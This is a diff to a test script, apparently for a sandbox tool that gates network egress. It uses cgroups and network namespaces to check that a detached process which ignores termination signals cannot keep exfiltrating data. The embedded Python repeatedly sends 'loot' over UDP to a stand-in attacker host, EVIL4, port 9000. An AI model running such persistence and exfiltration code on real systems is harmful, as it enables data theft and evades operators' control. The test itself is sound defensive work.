@@ -16,7 +16,7 @@ for number in signal.SIGTERM, signal.SIGHUP, signal.SIGINT:
     signal.signal(number, signal.SIG_IGN)
 with open(os.environ["STARTED"], "a"):
     pass
-end = time.monotonic() + 4
+end = time.monotonic() + 4 * int(os.environ["PATIENCE"])
 while time.monotonic() < end:
     try:
         udp(EVIL4).sendto(loot("left"), (EVIL4, 9000))
@@ -24,24 +24,26 @@ while time.monotonic() < end:
         pass
     time.sleep(0.001)
 PYTHON
-export STARTED=$SCRATCH/started
+export STARTED=$SCRATCH/started PATIENCE
 started() { [[ -e $STARTED ]]; }
 
-# Leaves the process behind, and ends after $1 seconds.
+# Leaves the process behind, and ends once that is at it.
 # shellcheck disable=SC2016 # it is the inner shell's
-LEAVE=(bash -c 'setsid python3 "$0" </dev/null >/dev/null 2>&1 & exec sleep "$1"' "$SCRATCH/persist.py")
+LEAVE=(bash -c 'setsid python3 "$0" </dev/null >/dev/null 2>&1 &
+	until [[ -e $STARTED ]]; do sleep 0.05; done
+	exec sleep 0.5' "$SCRATCH/persist.py")
 RUN=("$KVGATE" run --bpffs-dir "$SCRATCH/bpf" --cgroup-parent "${CG#"$CGROUPS"}" --ranges "$RANGES"
 	--resolver none --crl-hosts none --allow "$GOOD4/32=udp/9000" --audit-file "$SCRATCH/record" --)
 
 next_run
-inside_cgroup "$CG" nsenter --net="/run/netns/$CLIENT" -- "${LEAVE[@]}" 0
+inside_cgroup "$CG" nsenter --net="/run/netns/$CLIENT" -- "${LEAVE[@]}"
 all_arrived stolen:left
 wait_for 5 empty_cgroup "$CG"
 
 for end in command TERM KILL; do
 	next_run
 	rm -f "$STARTED"
-	spawn_in "$CLIENT" "${RUN[@]}" "${LEAVE[@]}" 1 2>"$SCRATCH/said"
+	spawn_in "$CLIENT" "${RUN[@]}" "${LEAVE[@]}" 2>"$SCRATCH/said"
 	wait_for 5 started || fail "it did not start"
 	[[ $end == command ]] || kill -"$end" "$REPLY"
 	wait "$REPLY" || true
